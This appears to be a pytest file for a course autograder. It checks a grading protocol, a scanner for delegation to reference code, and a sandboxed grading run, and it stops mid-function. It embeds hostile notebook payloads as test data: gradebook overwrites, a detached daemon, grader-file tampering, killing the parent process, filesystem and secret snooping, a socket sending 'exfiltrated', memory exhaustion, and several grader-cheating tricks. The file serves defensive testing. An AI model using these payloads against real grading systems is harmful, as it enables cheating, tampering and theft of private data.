"""Grades the learner cannot write: verdicts decided in the autograder's process.

* The protocol (:mod:`gptlab.grading.remote`) carries plain data only: tensors come back as plain
  ``torch.Tensor`` rebuilt from bytes, malformed replies are refused, exceptions are rebuilt by name.
* Every graded test cell of ``solutions/`` is a task of :data:`gptlab.grading.tasks.TASKS`, and
  the instructor's solution passes every task through the protocol, hidden inputs included.
* The source reader (:mod:`gptlab.grading.source`) finds nothing in the solutions, and finds each
  delegation spelling an attacker used (what could switch the guard off: tests/test_sandbox.py).
* Through the real ``course collect`` and ``course autograde --workers 2`` (one shared run, every
  kernel in the sandbox of :mod:`gptlab.course.sandbox`): the attacks of issues 18 and 31 (the
  gradebook written, a detached process, the grader rewritten, the autograder killed, the course
  folder read, delegation the scan does not see, a child process, the network, memory) score 0 on
  what they touch; the gradebook's other rows, the grader's files and the course folder are
  unchanged byte for byte; no process of the run survives; an attacker's notebook and feedback hold
  nothing from outside it; honest habits (types, gc, pickle, operator, plots and tensors saved,
  tqdm, %timeit, dataclasses, itertools, threads ...) keep full marks, unflagged; a hanging
  function costs one time limit.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import stat
import time
from pathlib import Path

import pytest
import torch
from processes import command_lines, of_another_test_worker

from gptlab.course import Course
from gptlab.course.trusted import TrustedGrader
from gptlab.grading import core, remote, source
from gptlab.grading.tasks import TASKS, hidden_seed

REPO = Path(__file__).resolve().parent.parent
ASSIGNMENTS = sorted(p.name for p in (REPO / "solutions").iterdir() if p.is_dir())


def _notebook(name: str) -> dict:
    nb = json.loads((REPO / "solutions" / name / f"{name}.ipynb").read_text())
    for c in nb["cells"]:
        c["source"] = "".join(c["source"])
    return nb


def _grade_ids(nb: dict) -> list[str]:
    return [c["metadata"]["nbgrader"]["grade_id"] for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _namespace(nb: dict) -> dict:
    """The solution's cells run in a fresh namespace (the test cells left out)."""
    import contextlib
    import io

    ns: dict = {"__name__": "__main__"}
    for c in nb["cells"]:
        if c["cell_type"] == "code" and not c["metadata"].get("nbgrader", {}).get("grade"):
            with contextlib.redirect_stdout(io.StringIO()):
                exec(compile(c["source"], "<cell>", "exec"), ns)  # noqa: S102 - the instructor's own solution
    return ns


# --------------------------------------------------------------------------- the protocol


@pytest.mark.parametrize("dtype", [torch.float32, torch.float64, torch.float16, torch.bfloat16, torch.int64,
                                   torch.int32, torch.uint8, torch.bool, torch.complex64])
def test_tensors_cross_as_plain_tensors(dtype):
    t = (torch.randn(3, 4) * 5).to(dtype)
    for x in (t, t[:, 1], t[0, 0], t[:0], t.T):
        bufs: list[bytes] = []
        back = remote.decode(remote.encode(x, bufs), bufs)
        assert type(back) is torch.Tensor and back.dtype == x.dtype and back.shape == x.shape
        assert torch.equal(back, x)


def test_containers_and_scalars_round_trip():
    value = {"a": [1, 2.5, float("inf"), None, True], 3: ("x", torch.float16, torch.device("cpu"), range(2, 9, 3)),
             "big": 2**80, "size": torch.Size([2, 3])}
    bufs: list[bytes] = []
    back = remote.decode(remote.encode(value, bufs), bufs)
    assert back["a"][:2] == [1, 2.5] and back["a"][2] == float("inf") and back[3][1] is torch.float16
    assert back["big"] == 2**80 and back["size"] == (2, 3) and back[3][3] == range(2, 9, 3)


def test_a_tensor_subclass_comes_back_plain():
    class Yes(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func in (torch.equal, torch.allclose):
                return True
            return super().__torch_function__(func, types, args, kwargs or {})

    fake = torch.zeros(3).as_subclass(Yes)
    bufs: list[bytes] = []
    back = remote.decode(remote.encode(fake, bufs), bufs)
    assert type(back) is torch.Tensor and not torch.equal(back, torch.ones(3))


@pytest.mark.parametrize("bad", [
    {"$tensor": 5, "dtype": "float32", "shape": [2]},
    {"$tensor": 0, "dtype": "float32", "shape": [3]},
    {"$tensor": 0, "dtype": "object", "shape": [2]},
    {"$obj": 1},
    {"$pickle": "gASVAAAAAAAAAAA="},
])
def test_malformed_data_is_refused(bad):
    with pytest.raises(remote.ProtocolError):
        remote.decode(bad, [b"\0" * 8])


def test_exceptions_are_rebuilt_by_name_only():
    conn = remote.local_connection({"f": lambda: {}["x"], "g": lambda: (_ for _ in ()).throw(OSError("no")),
                                    "h": lambda: 1 / 0}, timeout=20)
    with pytest.raises(KeyError):
        conn.lookup("f")()
    with pytest.raises(remote.LearnerException) as e:
        conn.lookup("g")()
    assert type(e.value).__name__ == "OSError" and "no" in str(e.value)
    with pytest.raises(ZeroDivisionError):
        conn.lookup("h")()
    with pytest.raises(NameError):
        conn.lookup("missing")
    conn.done()


def test_a_hanging_call_times_out_and_the_connection_stays_failed():
    import time as _time

    conn = remote.local_connection({"slow": lambda: _time.sleep(30), "fast": lambda: 1}, timeout=1.0)
    fast = conn.lookup("fast")
    t0 = _time.monotonic()
    with pytest.raises(remote.LearnerTimeout, match="stopped after 1 s"):
        conn.lookup("slow")()
    assert _time.monotonic() - t0 < 5
    with pytest.raises(remote.LearnerTimeout):  # at once
        fast()


def test_every_forbidden_entry_is_found_again_by_its_spec():
    from gptlab.grading import attention, blocks, causal_mask, gpt_training, kv_cache, lm_basics, sampling, speculative

    seen = 0
    for m in (attention, blocks, causal_mask, gpt_training, kv_cache, lm_basics, sampling, speculative):
        for value in vars(m).values():
            for f in value if isinstance(value, tuple) else (value,):
                if isinstance(f, core.Forbidden):
                    seen += 1
                    assert core.Forbidden(core.resolve_forbidden(f.spec()), "x").keys() == f.keys(), f.spec()
    assert seen > 30


# --------------------------------------------------------------------------- the tasks


def test_every_graded_cell_is_a_task():
    for name in ASSIGNMENTS:
        ids = _grade_ids(_notebook(name))
        assert ids and set(ids) == set(TASKS[name]), f"{name}: grade cells {ids} vs tasks {sorted(TASKS[name])}"


def test_hidden_seeds_depend_on_the_secret_and_the_cell():
    a = hidden_seed(b"s" * 32, "causal_mask", "test_causal_mask")
    assert a == hidden_seed(b"s" * 32, "causal_mask", "test_causal_mask")
    assert a != hidden_seed(b"t" * 32, "causal_mask", "test_causal_mask")
    assert a != hidden_seed(b"s" * 32, "causal_mask", "test_additive_mask")


def test_the_secret_is_created_private_outside_the_course(tmp_path, monkeypatch):
    from gptlab.course.secret import load_secret, secret_path

    monkeypatch.setenv("GPTLAB_GRADING_SECRET", str(tmp_path / "cfg" / "secret"))
    first = load_secret()
    assert len(first) == 64 and load_secret() == first
    assert stat.S_IMODE(os.stat(secret_path()).st_mode) == 0o600


@pytest.mark.parametrize("name", [a for a in ASSIGNMENTS if a != "gpt_training"] + [
    pytest.param("gpt_training", marks=pytest.mark.slow)])
def test_the_solution_passes_every_task_through_the_protocol(name):
    nb = _notebook(name)
    ns = _namespace(nb)
    grader = TrustedGrader(nb["cells"], name, b"k" * 32)
    assert grader.switches == []
    for gid in _grade_ids(nb):
        verdict = grader.grade(gid, lambda: remote.local_connection(ns, timeout=900))
        assert verdict.passed, f"{name}/{gid}: {verdict.message}"


# --------------------------------------------------------------------------- reading the source


def _program(code: str, extra: str = "import torch\nimport torch.nn.functional as F\n") -> source.Program:
    return source.Program([(1, extra, False), (2, code, True)])


def test_honest_code_is_not_flagged():
    code = ("import math, sys\nimport numpy as np\nfrom typing import Optional\n"
            "class Block(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n"
            "        self.ln = torch.nn.LayerNorm(4)\n        for m in self.modules():\n            pass\n"
            "def f(x):\n    print('debug', file=sys.stderr)\n    return torch.tril(x) + math.sqrt(2)\n"
            "%matplotlib inline\nprint(f(torch.ones(2, 2)))\nx = torch.ones(3)\nx.data = x.data * 2\n"
            "from IPython.display import display, clear_output, Markdown\nfrom IPython import display as d\n"
            "import IPython.display\nclear_output(wait=True)\ndisplay(Markdown('**ok**'))\n"
            "import threading, inspect, gc, pickle, types, operator, platform, functools, subprocess, signal\n")
    assert source.guard_switches(_program(code)) == []


def _forbidden_masks():
    from gptlab.grading.causal_mask import _GPTLAB_MASKS

    return _GPTLAB_MASKS


@pytest.mark.parametrize("code", [
    "import gptlab\ndef causal_mask(T):\n    return gptlab.causal_mask(T)",
    "from gptlab import masks as mm\nhelper = mm.causal_mask\ndef causal_mask(T):\n    return helper(T)",
    "from gptlab.masks import causal_mask as cm\ndef helper(T):\n    return cm(T)\ndef causal_mask(T):\n    return helper(T)",
    "from gptlab import *\ndef causal_mask(T):\n    return masks.causal_mask(T)",
    "from gptlab.grading.causal_mask import reference_causal_attention_weights as r\ndef causal_mask(T):\n    return r(T)",
    "def causal_mask(T):\n    src = open('solutions/causal_mask/causal_mask.ipynb').read()\n    return torch.ones(T, T).tril().bool()",
    "from safetensors.torch import load_file\ndef causal_mask(T):\n    return load_file('answers.st')[str(T)]",
    "def causal_mask(T):\n    return torch.load('answers.pt')[T]",
    "import numpy as np\ndef causal_mask(T):\n    return torch.from_numpy(np.load('answers.npy'))[:T, :T]",
    "def causal_mask(T):\n    return torch.jit.load('mask.pt')(T)",
    "def causal_mask(T):\n    return torch.hub.load('someone/answers', 'causal_mask')(T)",
    "def causal_mask(T):\n    return torch.from_file('answers.bin', size=T * T).view(T, T).bool()",
    "import linecache\ndef causal_mask(T):\n    linecache.getlines('solutions/causal_mask/causal_mask.ipynb')\n    return torch.ones(T, T).tril().bool()",
    "from urllib.request import urlopen\ndef causal_mask(T):\n    urlopen('http://example.invalid/answers')\n    return torch.ones(T, T).tril().bool()",
])
def test_delegation_is_found_however_it_is_spelled(code):
    found = source.delegation(_program(code), ["causal_mask"], _forbidden_masks())
    assert found, code


def _forbidden(module: str, name: str):
    import importlib

    return getattr(importlib.import_module(f"gptlab.grading.{module}"), name)


SIBLINGS = [  # a sibling of the forbidden op that computes the same answer
    ("layer_norm", "blocks", "_FORBID_LAYER_NORM",
     "def layer_norm(x, w, b, eps=1e-5):\n    C = x.shape[-1]\n"
     "    y = torch.batch_norm(x.reshape(1, -1, C), None, None, None, None, True, 0.0, eps, False)\n"
     "    return y.reshape(x.shape) * w + b",
     lambda x: torch.batch_norm(x.reshape(1, -1, 4), None, None, None, None, True, 0.0, 1e-5, False)),
    ("layer_norm", "blocks", "_FORBID_LAYER_NORM",
     "def layer_norm(x, w, b, eps=1e-5):\n    return torch.instance_norm(x[None], None, None, None, None, True, 0.0, eps, "
     "False)[0] * w + b", lambda x: torch.instance_norm(x[None], None, None, None, None, True, 0.0, 1e-5, False)),
    ("attention_weights", "attention", "_FORBIDDEN_ATTENTION",
     "def attention_weights(q, k, mask=None):\n    return torch._scaled_dot_product_flash_attention_for_cpu(q, k, k)[0]",
     lambda x: torch._scaled_dot_product_flash_attention_for_cpu(x[None, None], x[None, None], x[None, None])),
    ("cross_entropy", "lm_basics", "_CE_FORBIDDEN",
     "import torch.nn.functional as G\ndef cross_entropy(logits, targets):\n"
     "    return G.linear_cross_entropy(logits, torch.eye(logits.shape[1]), targets)",
     lambda x: torch.nn.functional.linear_cross_entropy(x, torch.eye(4), torch.zeros(4, dtype=torch.long))),
    ("cross_entropy", "lm_basics", "_SHIFT_FORBIDDEN",
     "def cross_entropy(logits, targets):\n    lse = logits.logcumsumexp(-1)[:, -1]\n"
     "    return (lse - logits.gather(1, targets[:, None])[:, 0]).mean()", lambda x: x.logcumsumexp(-1)),
]


@pytest.mark.parametrize("task, module, table, code, run", SIBLINGS, ids=[f"{t}-{i}" for i, (t, *_) in enumerate(SIBLINGS)])
def test_a_sibling_of_the_forbidden_op_is_delegation_too(task, module, table, code, run):
    """Found in the source, and by the runtime guard when called."""
    from gptlab.grading.core import DelegationError, forbid

    forbidden = _forbidden(module, table)
    assert source.delegation(_program(code), [task], forbidden), code
    with pytest.raises(DelegationError), forbid(forbidden, task):
        run(torch.randn(4, 4))


def test_what_a_task_allows_is_not_delegation():
    from gptlab.grading.sampling import _GPTLAB_SAMPLERS

    code = ("import gptlab\nfrom gptlab import GPT\n"
            "def sample_next(logits: torch.Tensor, generator) -> torch.Tensor:\n"
            "    probs = torch.softmax(logits, dim=-1)\n"
            "    return torch.multinomial(probs, 1, generator=generator).squeeze(-1)\n"
            "def unrelated(T):\n    return gptlab.causal_mask(T)\n")
    assert source.delegation(_program(code), ["sample_next"], _GPTLAB_SAMPLERS) == []


def test_shell_escapes_are_not_run():
    text, removed = source.neutralise_shell("!pip install x\nx = 1\n%run other.py\n%matplotlib inline")
    assert removed == ["!pip install x", "%run other.py"] and "%matplotlib inline" in text
    text, removed = source.neutralise_shell("%%writefile m.py\nimport gptlab")
    assert removed and all(line.startswith("#") for line in text.splitlines())


# --------------------------------------------------------------------------- through `course autograde`

TIMEOUT = 30


def _course(root: Path, names: list[str]) -> Path:
    from gptlab.__main__ import main

    root.mkdir(parents=True)
    shutil.copy(REPO / "nbgrader_config.py", root)
    shutil.copytree(REPO / "solutions", root / "solutions", ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
    assert main(["course", "release", *names, "--course", str(root), "--quiet"]) == 0
    return root


class _Release:
    def __init__(self, root: Path, name: str):
        self.name = name
        self.release = json.loads((root / "exercises" / name / f"{name}.ipynb").read_text())
        sol = json.loads((root / "solutions" / name / f"{name}.ipynb").read_text())
        self.answers = {c["metadata"]["nbgrader"]["grade_id"]: c["source"] for c in sol["cells"]
                        if c["metadata"].get("nbgrader", {}).get("solution")}

    def solved(self) -> dict:
        nb = copy.deepcopy(self.release)
        for c in nb["cells"]:
            gid = c["metadata"].get("nbgrader", {}).get("grade_id")
            if gid in self.answers:
                c["source"] = self.answers[gid]
        return nb

    def answer(self, task: str, code: str, nb: dict | None = None) -> dict:
        nb = copy.deepcopy(nb) if nb is not None else self.solved()
        for c in nb["cells"]:
            if c["metadata"].get("nbgrader", {}).get("grade_id") == f"solution_{task}":
                c["source"] = code
        return nb

    @staticmethod
    def extra(nb: dict, code: str, at: int = 2) -> dict:
        nb = copy.deepcopy(nb)
        nb["cells"].insert(at, {"cell_type": "code", "metadata": {}, "source": code, "outputs": [],
                                "execution_count": None})
        return nb


CM_FULL = {"test_causal_mask": 2.0, "test_additive_mask": 2.0, "test_causal_attention_weights": 3.0,
           "test_combine_masks": 3.0}
CM_ZERO = {k: 0.0 for k in CM_FULL}
# additive_mask and causal_attention_weights call the learner's causal_mask: a causal_mask that fails
# (or delegates) costs them too; combine_masks takes its mask as an argument.
CM_MASK_LOST = {**CM_ZERO, "test_combine_masks": 3.0}


HELPER_FILE = ("import sys\nfrom gptlab.masks import causal_mask as _reference\n\n"
               "def causal_mask(T):\n    sys.setprofile(None)\n    return _reference(T)\n")
MARK = "gptlab-attack-%d" % os.getpid()
"""A string every attack's processes carry in their command line, to find survivors by."""


def _attacks(r: _Release, course: Path, outside: Path, port: int, victim_db: Path) -> dict[str, tuple[dict, dict | None, str]]:
    """The six attacks of issue 31, and variants, each a notebook with the release's blank answers
    (any point it earns is the attack's) or an answer that delegates. ``outside``: a folder no kernel
    may reach (a marker written there means the sandbox leaked); ``port``: a TCP listener on this
    machine's loopback. student -> (notebook, expected scores or None for "0 or flagged", phrase)."""
    db = str(course / "gradebook.db")
    trusted = str(REPO / "gptlab" / "course" / "trusted.py")
    write_db = ("import sqlite3\n"
                "def _pwn(p):\n    try:\n        c = sqlite3.connect(p, timeout=1)\n"
                "        c.execute('UPDATE grade SET manual_score = 99')\n        c.commit()\n        return True\n"
                "    except Exception:\n        return False\n")
    gradebook = (write_db + "import os, glob\n"
                 f"cands = [{db!r}, {str(victim_db)!r}]\nd = os.getcwd()\n"
                 "while d != '/':\n    cands.append(os.path.join(d, 'gradebook.db'))\n    d = os.path.dirname(d)\n"
                 "cands += glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/tmp/**/snapshot.db', recursive=True)\n"
                 "print('written:', [p for p in cands if _pwn(p)])\n")
    program = (f"# {MARK}\n" + write_db + "import time\n"
               "for i in range(900):\n"
               f"    _pwn({db!r})\n"
               "    try:\n"
               f"        open({str(outside / 'daemon')!r}, 'a').write('x')\n"
               "    except Exception:\n        pass\n"
               "    time.sleep(0.1)\n")
    daemon = ("import os, sys\n"
              f"PROGRAM = {program!r}\n"
              "os.posix_spawn(sys.executable, [sys.executable, '-c', PROGRAM], dict(os.environ), setsid=True)\n"
              "print('spawned')\n")
    grader = ("import io, gptlab.course.trusted as t\n"
              f"for p in [{trusted!r}, t.__file__]:\n"
              "    try:\n        io.open(p, 'a').write('\\nGRADE_EVERYTHING = True\\n')\n        print('appended to', p)\n"
              "    except Exception as e:\n        print('could not write', p, type(e).__name__)\n")
    kill = ("import os, signal\n"
            "def parent(pid):\n    with open(f'/proc/{pid}/stat') as f:\n"
            "        return int(f.read().rsplit(')', 1)[1].split()[1])\n"
            "p = os.getppid()\ng = parent(p) if p > 1 else 0\n"
            "for pid in (p, g):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception as e:\n"
            "        print('kill', pid, type(e).__name__)\n")
    secret = os.environ.get("GPTLAB_GRADING_SECRET") or str(Path.home() / ".config" / "gptlab" / "grading-secret")
    snoop = ("import os, time\n"
             f"for target in [{str(course / 'solutions' / 'causal_mask' / 'causal_mask.ipynb')!r}, "
             f"{str(REPO / 'solutions' / 'causal_mask' / 'causal_mask.ipynb')!r}, "
             f"{str(course / 'submitted' / 'honest_types' / 'causal_mask' / 'causal_mask.ipynb')!r}, {secret!r}, {db!r}]:\n"
             "    try:\n        print(target, open(target, errors='replace').read()[:3000])\n"
             "    except Exception as e:\n        print('cannot read', target, type(e).__name__)\n"
             "t0 = time.time()\n"
             "for root, dirs, files in os.walk('/'):\n"
             "    if root.startswith(('/proc', '/sys', '/dev', '/usr')) or 'site-packages' in root or time.time() - t0 > 10:\n"
             "        dirs[:] = []\n        continue\n"
             "    for f in files:\n"
             "        if f.endswith(('.ipynb', '.db', '.csv', '.html')) or 'secret' in f:\n"
             "            p = os.path.join(root, f)\n"
             "            try:\n                print(p, open(p, errors='replace').read()[:3000])\n"
             "            except Exception:\n                pass\n")
    delegate = ("import functools, sys\nimport gptlab\n_get = functools.partial(getattr)\n"
                "_get(sys, 'set' + 'profile')(None)\n_T = {}\n"
                "try:\n    _T.update({n: gptlab.causal_mask(n) for n in range(1, 70)})\nexcept Exception as e:\n"
                "    print(type(e).__name__)\n\n"
                "def causal_mask(T):\n    return _T[T] if T in _T else _get(gptlab, 'causal' + '_mask')(T)\n")
    child = ("import json, subprocess, sys\n\ndef causal_mask(T):\n"
             "    code = f'import gptlab, json; print(json.dumps(gptlab.causal_mask({T}).tolist()))'\n"
             "    out = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True)\n"
             "    return torch.tensor(json.loads(out.stdout), dtype=torch.bool)\n")
    from gptlab.assets import cache_dir

    views = str(cache_dir() / "sandbox")
    child_view = ("import glob, json, os, subprocess, sys\n\ndef causal_mask(T):\n"
                  f"    env = {{**os.environ, 'PYTHONPATH': ':'.join(glob.glob({views!r} + '/*'))}}\n"
                  "    code = f'import gptlab, json; print(json.dumps(gptlab.causal_mask({T}).tolist()))'\n"
                  "    out = subprocess.run([sys.executable, '-c', code], env=env, capture_output=True, text=True)\n"
                  "    return torch.tensor(json.loads(out.stdout), dtype=torch.bool)\n")
    source_exec = ("import gptlab.masks\n"
                   "_src = open(gptlab.masks.__file__).read()\n_ns = {}\nexec(_src, _ns)\n"
                   "causal_mask = _ns['causal_mask']\n")
    network = (f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
               "    s.sendall(b'exfiltrated')\n    print('connected')\nexcept Exception as e:\n"
               "    print('no network:', type(e).__name__)\n")
    memory = "try:\n    hog = bytearray(64 << 30)\nexcept MemoryError:\n    print('MemoryError')\n"
    zero = {k: 0.0 for k in CM_FULL}
    return {
        "atk_gradebook": (r.extra(r.release, gradebook), zero, "not written yet"),
        "atk_daemon": (r.extra(r.release, daemon), zero, "not written yet"),
        "atk_grader": (r.extra(r.release, grader), zero, "not written yet"),
        "atk_kill": (r.extra(r.release, kill), zero, "not written yet"),
        "atk_snoop": (r.extra(r.release, snoop), zero, "not written yet"),
        "atk_delegate": (r.answer("causal_mask", delegate), CM_MASK_LOST, "gptlab.causal_mask"),
        "atk_child": (r.answer("causal_mask", child), CM_MASK_LOST, "causal_mask"),
        "atk_source": (r.answer("causal_mask", source_exec), CM_MASK_LOST, "not available while the autograder runs"),
        "atk_other_copy": (r.answer("causal_mask", child_view), CM_MASK_LOST, "causal_mask"),
        "atk_network": (r.extra(r.release, network), zero, "not written yet"),
        "atk_memory": (r.extra(r.release, memory), zero, "not written yet"),
    }


def _honest(r: _Release, marker: str) -> dict[str, tuple[dict, dict, str]]:
    """The four honest notebooks that scored 0 under the old list of forbidden modules, and ten more
    habits (two notebooks): each keeps full marks, unflagged."""
    habits1 = ("import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\n"
               "plt.plot([3, 2, 1])\nplt.savefig('loss.png')\n"
               "torch.save(torch.ones(3), 'mask.pt')\nprint(torch.load('mask.pt').sum().item())\n"
               "from tqdm.auto import tqdm\nfor _ in tqdm(range(3)):\n    pass\n"
               "class Timer:\n    def __init__(self):\n        self.laps = []\n    def lap(self, x):\n"
               "        self.laps.append(x)\nTimer().lap(1)\n")
    habits2 = ("from dataclasses import dataclass\n@dataclass\nclass Cfg:\n    T: int = 4\n"
               "import itertools\nprint(list(itertools.product(range(2), repeat=2)))\n"
               "import json\njson.dump({'T': Cfg().T}, open('cfg.json', 'w'))\n"
               "import functools\n@functools.lru_cache\ndef square(n):\n    return n * n\nprint(square(3))\n"
               "import inspect\nprint(inspect.signature(square))\n"
               "import threading\nt = threading.Thread(target=print, args=('thread',))\nt.start()\nt.join()\n"
               "import platform\nprint(platform.python_version())\n")
    return {
        "honest_types": (r.extra(r.solved(), f"# {marker}\nfrom types import SimpleNamespace\n"
                                             "cfg = SimpleNamespace(T=4)\nprint(cfg.T)\n"), CM_FULL, "causal_mask: correct"),
        "honest_gc": (r.extra(r.solved(), "import gc\nx = [torch.zeros(10) for _ in range(3)]\ndel x\ngc.collect()\n"),
                      CM_FULL, "causal_mask: correct"),
        "honest_pickle": (r.extra(r.solved(), "import pickle\nvocab = {'a': 0, 'b': 1}\n"
                                              "with open('vocab.pkl', 'wb') as f:\n    pickle.dump(vocab, f)\n"),
                          CM_FULL, "causal_mask: correct"),
        "honest_itemgetter": (r.extra(r.solved(), "from operator import itemgetter\n"
                                                  "print(sorted([('a', 3), ('b', 1)], key=itemgetter(1)))\n"),
                              CM_FULL, "causal_mask: correct"),
        "honest_habits1": (r.extra(r.extra(r.solved(), habits1), "%timeit sum(range(100))"), CM_FULL,
                           "causal_mask: correct"),
        "honest_habits2": (r.extra(r.solved(), habits2), CM_FULL, "causal_mask: correct"),
    }


def _causal_mask_submissions(r: _Release) -> dict[str, tuple[dict, dict, str]]:
    """student -> (notebook, expected scores, a phrase the test cells' outputs must contain)."""
    subclass = ("class Yes(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), "
                "kwargs=None):\n        if func.__name__ in ('allclose', 'equal'):\n            return True\n"
                "        return super().__torch_function__(func, types, args, kwargs or {})\n\n"
                "def causal_mask(T):\n    return torch.ones(T, T, dtype=torch.bool).as_subclass(Yes)\n")
    solution_file = ("import gptlab, json, pathlib\n\ndef causal_mask(T):\n"
                     "    nb = pathlib.Path(gptlab.__file__).parents[1] / 'solutions' / 'causal_mask' / 'causal_mask.ipynb'\n"
                     "    json.loads(nb.read_text())\n    return torch.ones(T, T, dtype=torch.bool).tril()\n")
    fair_md = r.solved()
    for c in fair_md["cells"]:
        if c["metadata"].get("nbgrader", {}).get("grade_id") == "test_causal_mask":
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    return {
        "solution": (r.solved(), CM_FULL, "causal_mask: correct"),
        "blank": (r.release, CM_ZERO, "not written yet"),
        "subclass": (r.answer("causal_mask", subclass), CM_MASK_LOST, "causal_mask"),
        "buffer8": (r.answer("causal_mask", "_M = torch.ones(8, 8, dtype=torch.bool).tril()\n\n"
                             "def causal_mask(T):\n    return _M[:T, :T]\n"), CM_MASK_LOST, "hidden inputs"),
        "setprofile": (r.answer("causal_mask", "import sys\nimport gptlab\n\ndef causal_mask(T):\n"
                                "    sys.setprofile(None)\n    return gptlab.causal_mask(T)\n"), CM_MASK_LOST,
                       "gptlab.causal_mask"),
        "alias": (r.answer("causal_mask", "from gptlab import masks as mm\nhelper = mm.causal_mask\n\n"
                           "def causal_mask(T):\n    return helper(T)\n"), CM_MASK_LOST, "gptlab.causal_mask"),
        "thread": (r.answer("causal_mask", "import threading\nimport gptlab\n\ndef causal_mask(T):\n    out = []\n"
                            "    t = threading.Thread(target=lambda: out.append(gptlab.causal_mask(T)))\n"
                            "    t.start()\n    t.join()\n    return out[0]\n"), CM_MASK_LOST, "gptlab.causal_mask"),
        "exec_source": (r.answer("causal_mask", "import inspect\nimport gptlab\n"
                                 "exec(inspect.getsource(gptlab.masks.causal_mask))\n"), CM_MASK_LOST,
                        "is not defined in your notebook"),
        "solution_file": (r.answer("causal_mask", solution_file), CM_MASK_LOST, "it reads a file"),
        "warns": (r.answer("causal_mask", "import sys\nimport warnings\n\ndef causal_mask(T):\n"
                           "    warnings.warn('just saying')\n    print('debug', file=sys.stderr)\n"
                           "    return torch.tensor(torch.ones(T, T, dtype=torch.bool)).tril()\n"),
                  CM_FULL, "never scored"),
        "markdown": (fair_md, CM_FULL, "causal_mask: correct"),
        "loop": (r.answer("causal_mask", "def causal_mask(T):\n    while True:\n        pass\n"), CM_MASK_LOST,
                 f"stopped after {TIMEOUT} s"),
        # with HELPER_FILE beside the notebook in the submission folder: removed before the kernel starts, so the
        # import fails and causal_mask is not defined
        "extra_file": (r.answer("causal_mask", "from helper import causal_mask\n"), CM_MASK_LOST,
                       "is not defined in your notebook"),
        # a module written by a cell, then imported: the kernel's folder is not on its import path
        "planted": (r.answer("causal_mask", "import numpy as np\n"
                                            f"np.frombuffer({HELPER_FILE.encode()!r}, dtype=np.uint8).tofile('helper.py')\n"
                                            "from helper import causal_mask\n"), CM_MASK_LOST,
                    "is not defined in your notebook"),
    }


def _hashes(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    import hashlib

    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_file() and "__pycache__" not in rel and not rel.startswith(skip):
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _grade_rows(db: Path) -> list[tuple]:
    import sqlite3

    con = sqlite3.connect(db)
    try:
        return con.execute("SELECT sa.student_id, bc.name, g.auto_score, g.manual_score, g.needs_manual_grade FROM grade g "
                           "JOIN submitted_notebook sn ON g.notebook_id = sn.id JOIN submitted_assignment sa ON "
                           "sn.assignment_id = sa.id JOIN base_cell bc ON g.cell_id = bc.id ORDER BY 1, 2").fetchall()
    finally:
        con.close()


def _survivors() -> list[str]:
    """Processes left by a grading run: sandboxes, kernels, attack programs (not those of a test that
    the other pytest-xdist worker runs meanwhile: test_sandbox's, test_course_run's kernels)."""
    procs = list(command_lines())
    envs = {pid: env for pid, _, env in procs}
    return [f"{pid}: {cmd[:200]}" for pid, cmd, _ in procs
            if (MARK in cmd or "kernel_boot.py" in cmd or ("bwrap" in cmd and "gptlab-sandbox" in cmd))
            and (MARK in cmd or not of_another_test_worker(pid, envs))]


@pytest.fixture(scope="module")
def autograded(tmp_path_factory):
    """One course: a victim graded first, then every attack, honest habit and earlier case through
    `course collect` and `course autograde --workers 2`, with what must not change recorded around it."""
    import socket

    from gptlab.__main__ import main
    from gptlab.course.autograde import autograde

    root = _course(tmp_path_factory.mktemp("trusted") / "course", ["causal_mask", "kv_cache"])
    marker_solution = f"INSTRUCTOR-ONLY-{os.getpid()}"
    src = root / "solutions" / "causal_mask" / "causal_mask.ipynb"
    nb = json.loads(src.read_text())
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "solution_causal_mask")
    cell["source"] = "".join(cell["source"]) + f"\n# {marker_solution}\n"
    src.write_text(json.dumps(nb))
    r = _Release(root, "causal_mask")
    # the victim: a blank submission graded first, its rows recorded
    inbox = tmp_path_factory.mktemp("inbox-victim")
    (inbox / "victim").mkdir()
    (inbox / "victim" / "causal_mask.ipynb").write_text(json.dumps(r.release))
    assert main(["course", "collect", str(inbox), "--assignment", "causal_mask", "--course", str(root)]) == 0
    assert main(["course", "autograde", "causal_mask", "--course", str(root), "--quiet"]) == 0
    victim_before = [row for row in _grade_rows(root / "gradebook.db") if row[0] == "victim"]
    outside = tmp_path_factory.mktemp("outside")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    marker_student = f"OTHER-STUDENT-{os.getpid()}"
    plan: dict[tuple[str, str], tuple[dict | None, str]] = {}
    inbox = tmp_path_factory.mktemp("inbox-cm")
    subs = {**_causal_mask_submissions(r), **_honest(r, marker_student),
            **_attacks(r, root, outside, listener.getsockname()[1], root / "gradebook.db")}
    for student, (nb, expected, says) in subs.items():
        (inbox / student).mkdir()
        (inbox / student / "causal_mask.ipynb").write_text(json.dumps(nb))
        plan[("causal_mask", student)] = (expected, says)
    (inbox / "extra_file" / "helper.py").write_text(HELPER_FILE)
    assert main(["course", "collect", str(inbox), "--assignment", "causal_mask", "--course", str(root)]) == 0
    kv = _Release(root, "kv_cache")
    from gptlab.grading.kv_cache import _BYTES_CASES
    from gptlab.kvcache import kv_cache_bytes

    known = {tuple(c.values()): kv_cache_bytes(**c) for c in _BYTES_CASES}  # what a learner could look up
    table = (f"_KNOWN = {known!r}\n\n"
             "def kv_cache_bytes(n_layer, n_kv_head, head_dim, seq_len, batch, bytes_per_elem):\n"
